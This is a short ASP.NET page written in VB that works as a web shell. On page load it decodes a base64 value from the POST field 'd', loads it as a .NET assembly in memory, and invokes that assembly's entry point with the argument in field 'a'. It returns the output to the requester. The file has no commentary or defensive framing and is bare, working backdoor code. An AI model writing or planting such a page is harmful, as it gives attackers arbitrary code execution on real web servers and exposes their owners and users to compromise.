<%@ Page Language="VB" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    Dim d As String = Request.Form("d")
    If String.IsNullOrEmpty(d) Then Return
    Dim asm As [Assembly] = [Assembly].Load(Convert.FromBase64String(d))
    Dim r As Object = asm.EntryPoint.Invoke(Nothing, New Object() {New String() {Request.Form("a")}})
    Response.Write(r)
End Sub
</script>
